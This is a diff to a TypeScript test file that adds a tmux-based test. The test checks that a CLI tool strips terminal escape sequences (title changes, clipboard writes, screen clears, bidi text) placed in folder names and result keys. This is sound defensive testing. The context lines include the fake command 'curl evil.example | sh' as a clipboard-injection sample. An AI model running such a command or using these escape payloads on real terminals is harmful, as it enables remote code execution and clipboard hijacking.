@@ -79,3 +79,47 @@ test.skipIf(!hasTmux)('in a real terminal, hostile workspace text neither retitl
 	expect(await eventually(() => (title(raw) === 'pwned' ? true : undefined), 'the raw title to change')).toBe(true);
 	expect(await eventually(() => buffers() || undefined, 'a paste buffer')).toContain('curl evil.example | sh');
 }, 60_000);
+
+test.skipIf(!hasTmux)('in a real terminal, a result key quoted by a rejection and an archive path under a hostile folder are shown without their control bytes', async () => {
+	const tmux = new TmuxServer();
+	servers.push(tmux);
+	const project = temporaryDirectory();
+	const base = path.join(project, `dir${hostile.oscTitle}${hostile.osc52}${hostile.clear}${hostile.bidi}ARCHIVEDIR`);
+	fs.mkdirSync(base);
+	const schema = path.join(project, 'schema.json');
+	fs.writeFileSync(schema, JSON.stringify({type: 'object', additionalProperties: false, properties: {ok: {type: 'boolean'}}}));
+	const created = await runCli(['new', '--task', hostileText('TASKNAME'), '--dir', base, '--schema', schema, '--result', 'output/analysis.json', '--retries', '1', '--json'], {cwd: project});
+	const {workspace} = JSON.parse(created.stdout) as {workspace: string};
+	const go = path.join(project, 'go');
+	const session = tmux.start(`sh -c ${sh(`while [ ! -e ${sh(go)} ]; do sleep 0.05; done; ${handoff} watch --stay --no-clipboard ${sh(workspace)}`)}`, project);
+	tmux.run('set', '-s', 'set-clipboard', 'on');
+	tmux.run('resize-window', '-t', session, '-x', '240', '-y', '50');
+	const title = (): string => tmux.run('display-message', '-p', '-t', session, '#{pane_title}').trim();
+	const buffers = (): string => tmux.run('list-buffers', '-F', '#{buffer_name}: #{buffer_sample}');
+	const titleBefore = title();
+	fs.writeFileSync(go, '');
+	const screenShowing = async (...words: string[]): Promise<string> => eventually(() => {
+		const screen = tmux.screen(session);
+		return words.every(word => screen.includes(word)) ? screen : undefined;
+	}, words.join(', ')).catch((error: Error) => {
+		throw new Error(`${error.message}\n--- screen ---\n${tmux.screen(session)}`);
+	});
+
+	await screenShowing('TASKNAME', 'ARCHIVEDIR');
+	fs.writeFileSync(path.join(workspace, 'output/analysis.json'), JSON.stringify({[hostileText('RESULTKEY')]: true}));
+	fs.writeFileSync(path.join(workspace, '.done'), '');
+	await screenShowing('Result rejected', 'unexpected field', 'RESULTKEY');
+	expect(title()).toBe(titleBefore);
+	expect(buffers()).toBe('');
+
+	// The consumer repairs it; the archive path is shown on the screen and, after q, in the summary line.
+	fs.rmSync(path.join(workspace, '.done'), {force: true});
+	fs.writeFileSync(path.join(workspace, 'output/analysis.json'), JSON.stringify({ok: true}));
+	fs.writeFileSync(path.join(workspace, '.done'), '');
+	await screenShowing('Complete. Archived to', 'ARCHIVEDIR');
+	tmux.run('send-keys', '-t', session, 'q');
+	await screenShowing('handoff: complete; archived to');
+	expect(tmux.screen(session)).toMatch(/archived to \S*ARCHIVEDIR/);
+	expect(title()).toBe(titleBefore);
+	expect(buffers()).toBe('');
+}, 60_000);
